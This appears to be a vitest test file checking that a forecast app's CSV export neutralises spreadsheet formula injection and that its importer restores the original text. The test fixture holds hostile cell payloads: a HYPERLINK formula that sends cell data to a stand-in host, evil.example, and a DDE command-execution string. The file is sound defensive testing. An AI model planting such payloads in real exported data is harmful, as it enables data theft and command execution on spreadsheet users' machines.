import { parse } from "csv-parse/sync";
import { describe, expect, it } from "vitest";
import type { ForecastDTO } from "@/db/queries/forecasts";
import { parseImportFile } from "@/lib/import/parse-file";
import { formatExport, guardCell, unguardCell } from "./format";

/** A forecast whose text fields an attacker chose: spreadsheet formulas in every text cell. */
function hostile(): ForecastDTO {
  return {
    id: 7,
    quote: '=HYPERLINK("https://evil.example/?"&A1,"click")',
    language: "en",
    question: "+cmd|' /C calc'!A0?",
    polarity: "positive",
    resolutionCriteria: "-2+3",
    forecaster: { name: "@SUM(1+1)", kind: "person", slug: "x" },
    attribution: "own",
    article: {
      title: "\t=1+1",
      outlet: "\r=2",
      authors: [{ name: "=evil()", slug: "e" }],
      url: null,
      publishedOn: null,
      firstPublishedOn: null,
      originalOutlet: null,
      slug: "a",
    },
    madeOn: "2024-01-01",
    madeOnBasis: "published",
    deadline: null,
    deadlineBasis: "none",
    deadlineNote: "'=already quoted",
    probability: 0.7,
    probabilityRange: [0.6, 0.8],
    probabilitySource: "lexicon",
    verbalExpression: "likely",
    lexiconClass: "LIKELY",
    lexiconVersion: "v0",
    lowInformation: false,
    condition: "plain text",
    eventId: null,
    topics: [],
    outcome: null,
    version: 1,
  } as unknown as ForecastDTO;
}

describe("CSV export guards against formula injection", () => {
  it("prefixes a single quote to every text cell a spreadsheet would run as a formula", () => {
    const [header = [], row = []] = parse(formatExport([hostile()], "csv")) as string[][];
    const cell = (name: string) => row[header.indexOf(name)];
    expect(cell("quote")).toBe(`'=HYPERLINK("https://evil.example/?"&A1,"click")`);
    expect(cell("question")).toBe("'+cmd|' /C calc'!A0?");
    expect(cell("resolutionCriteria")).toBe("'-2+3");
    expect(cell("forecaster.name")).toBe("'@SUM(1+1)");
    expect(cell("article.title")).toBe("'\t=1+1");
    expect(cell("article.outlet")).toBe("'\r=2");
    expect(cell("deadlineNote")).toBe("''=already quoted");
    expect(cell("condition")).toBe("plain text");
    // Numbers and JSON cells are not text: no guard (a negative number stays a number).
    expect(cell("probability")).toBe("0.7");
    expect(cell("probabilityRange")).toBe("[0.6,0.8]");
    expect(cell("article.authors")).toBe('["=evil()"]');
    for (const c of row) expect(c).not.toMatch(/^[=+\-@\t\r]/);
  });

  it("keeps the JSON export unchanged", () => {
    const [record] = JSON.parse(formatExport([hostile()], "json"));
    expect(record.quote).toBe(hostile().quote);
    expect(record.forecaster.name).toBe("@SUM(1+1)");
  });

  it("is undone by the importer, so a round trip gives the original text", () => {
    for (const s of ["=1", "+1", "-1", "@a", "\t=x", "\r=x", "'=x", "''+x", "'plain", "plain", "-"]) expect(unguardCell(guardCell(s))).toBe(s);
    const parsed = parseImportFile(formatExport([hostile()], "csv"), "csv");
    const record = parsed.records[0] as Record<string, unknown> & { forecaster: { name: string }; article: { title: string } };
    expect(record.quote).toBe(hostile().quote);
    expect(record.forecaster.name).toBe("@SUM(1+1)");
    expect(record.article.title).toBe("\t=1+1");
    expect(record.deadlineNote).toBe("'=already quoted");
  });
});
